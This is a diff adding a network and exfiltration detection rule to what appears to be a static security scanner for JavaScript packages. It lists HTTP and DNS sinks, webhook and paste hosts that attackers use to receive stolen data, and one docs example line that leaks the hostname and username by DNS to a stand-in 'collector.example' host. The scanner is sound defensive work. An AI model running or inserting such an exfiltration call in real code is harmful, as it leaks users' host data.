@@ -1,0 +1,115 @@
+import type { Node } from '@babel/types';
+import { defineRule, type FileContext } from '../src/engine/rule.js';
+import { HOLE } from '../src/engine/evaluate.js';
+import { EXFIL_ENDPOINTS, RECON_ENDPOINTS, RAW_IP_URL, isPublicIPv4, matchIndicator } from '../src/engine/indicators.js';
+import { parentOf } from '../src/engine/walk.js';
+
+const HTTP_SINKS = new Set([
+  'http.request', 'http.get', 'https.request', 'https.get', 'http2.connect', 'net.connect', 'net.createConnection', 'net.Socket',
+  'tls.connect', 'dgram.createSocket', 'fetch', 'XMLHttpRequest', 'WebSocket', 'ws', 'EventSource',
+  'axios', 'axios.get', 'axios.post', 'axios.put', 'axios.request', 'axios.create', 'got', 'got.get', 'got.post', 'got.stream',
+  'node-fetch', 'undici.request', 'undici.fetch', 'undici.stream', 'request', 'request.get', 'request.post', 'request-promise',
+  'needle', 'needle.post', 'superagent.post', 'superagent.get', 'phin', 'bent', 'ky', 'ky.post',
+]);
+const DNS_SINKS = /^dns(?:\.promises)?\.(?:lookup|resolve\w*|reverse)$|^dns\.Resolver$/;
+
+function sourceText(ctx: FileContext, node: Node): string {
+  return node.start != null && node.end != null ? ctx.text.slice(node.start, Math.min(node.end, node.start + 2000)) : '';
+}
+
+function checkUrlText(text: string, node: Node, ctx: FileContext, decoded: boolean): void {
+  const exfil = matchIndicator(EXFIL_ENDPOINTS, text);
+  if (exfil) {
+    ctx.report({ node, message: `${decoded ? 'decoded string names' : 'names'} ${exfil.label} endpoint: ${text.slice(0, 120)}`, severity: 'high', signals: decoded ? ['sink:exfil-endpoint', 'obfuscation'] : ['sink:exfil-endpoint'] });
+    return;
+  }
+  const recon = matchIndicator(RECON_ENDPOINTS, text);
+  if (recon) {
+    ctx.report({ node, message: `${decoded ? 'decoded string names' : 'names'} ${recon.label} service (${text.slice(0, 80)}): looks up the victim's public IP`, severity: 'medium', signals: decoded ? ['sink:recon-endpoint', 'obfuscation'] : ['sink:recon-endpoint'] });
+    return;
+  }
+  const ip = RAW_IP_URL.exec(text);
+  if (ip && isPublicIPv4(ip[1]!)) {
+    ctx.report({ node, message: `URL with a raw public IP address: ${ip[0]}`, severity: 'medium', signals: ['sink:exfil-endpoint'] });
+    return;
+  }
+  if (decoded && /^(?:https?|wss?):\/\//i.test(text)) {
+    ctx.report({ node, message: `URL hidden in an encoded string: ${text.slice(0, 120)}`, severity: 'medium', signals: ['obfuscation'] });
+  }
+}
+
+export default defineRule({
+  meta: {
+    id: 'network',
+    title: 'Network access and exfiltration endpoints',
+    description:
+      'Reports network sinks (http/https/net/tls/dgram/dns, fetch, WebSocket, axios, got, node-fetch, undici, request) and the endpoints attackers use to receive stolen data: Discord and Slack webhooks, the Telegram bot API, pastebin, webhook.site, Pipedream, ngrok, interactsh/OAST and Burp collaborator hosts, raw public IP addresses, and public-IP lookup services. A DNS lookup of a hostname built at run time from host data is DNS exfiltration.',
+    severity: 'low',
+    category: 'network',
+    references: ['https://attack.mitre.org/techniques/T1567/', 'https://attack.mitre.org/techniques/T1048/'],
+    docs: {
+      example: "dns.lookup(`${os.hostname()}.${os.userInfo().username}.collector.example`, () => {})",
+      suppress: 'Allow the package version in tollgate.config.json, or set `"rules": { "network": "off" }`.',
+    },
+  },
+  create() {
+    let reportedSink = false;
+    let lastFile = '';
+    return {
+      call(call, ctx) {
+        if (ctx.path !== lastFile) {
+          lastFile = ctx.path;
+          reportedSink = false;
+        }
+        const callee = call.callee;
+        if (!callee) return;
+        const args = call.node.arguments;
+        if (DNS_SINKS.test(callee)) {
+          const host = args[0] && args[0].type !== 'SpreadElement' && args[0].type !== 'ArgumentPlaceholder' ? ctx.evaluator.foldLoose(args[0]) : undefined;
+          const src = args[0] ? sourceText(ctx, args[0]) : '';
+          const built = host === undefined || host.includes(HOLE);
+          const fromHost = /hostname|userInfo|username|homedir|networkInterfaces|process\.env|whoami/.test(src) || (host !== undefined && host.split('.').length >= 4 && built);
+          if (built && fromHost) {
+            ctx.report({ node: call.node, message: `DNS lookup of a hostname built from host data (${(host ?? src).slice(0, 100)}): DNS exfiltration`, severity: 'high', signals: ['sink:dns', 'source:fingerprint'] });
+          } else {
+            ctx.report({ node: call.node, message: `DNS query (${callee})`, severity: 'info', signals: ['sink:dns'] });
+          }
+          return;
+        }
+        if (HTTP_SINKS.has(callee) || /^(?:http|https)\.(?:request|get)$/.test(callee)) {
+          // One capability note per file is enough; endpoints and flows carry the weight.
+          if (reportedSink) return;
+          reportedSink = true;
+          const first = args[0] && args[0].type !== 'SpreadElement' && args[0].type !== 'ArgumentPlaceholder' ? ctx.evaluator.foldLoose(args[0]) : undefined;
+          ctx.report({ node: call.node, message: `network access via ${callee}${first ? ` to ${first.slice(0, 100)}` : ''}`, severity: 'info', signals: ['sink:network'] });
+        }
+      },
+      nodes: {
+        StringLiteral(node, ctx) {
+          if (node.type !== 'StringLiteral' || node.value.length > 2000 || node.value.length < 6) return;
+          const parent = parentOf(node);
+          // Import specifiers and object keys are names, not destinations.
+          if (parent?.type === 'ImportDeclaration' || (parent?.type === 'ObjectProperty' && parent.key === node)) return;
+          checkUrlText(node.value, node, ctx, false);
+        },
+        TemplateLiteral(node, ctx) {
+          if (node.type !== 'TemplateLiteral') return;
+          const text = node.quasis.map((q) => q.value.cooked ?? q.value.raw).join(HOLE);
+          if (text.length >= 6 && text.length <= 2000) checkUrlText(text, node, ctx, false);
+        },
+        CallExpression(node, ctx) {
+          // Decoded strings: Buffer.from(b64, 'base64').toString(), atob(...), String.fromCharCode(...).
+          if (node.type !== 'CallExpression') return;
+          const c = node.callee;
+          const isDecoder =
+            (c.type === 'MemberExpression' && c.property.type === 'Identifier' && c.property.name === 'toString' && c.object.type !== 'Identifier') ||
+            (c.type === 'Identifier' && c.name === 'atob') ||
+            (c.type === 'MemberExpression' && c.property.type === 'Identifier' && (c.property.name === 'fromCharCode' || c.property.name === 'fromCodePoint'));
+          if (!isDecoder) return;
+          const v = ctx.evaluator.foldString(node);
+          if (v && v.length >= 6 && v.length <= 4000) checkUrlText(v, node, ctx, true);
+        },
+      },
+    };
+  },
+});
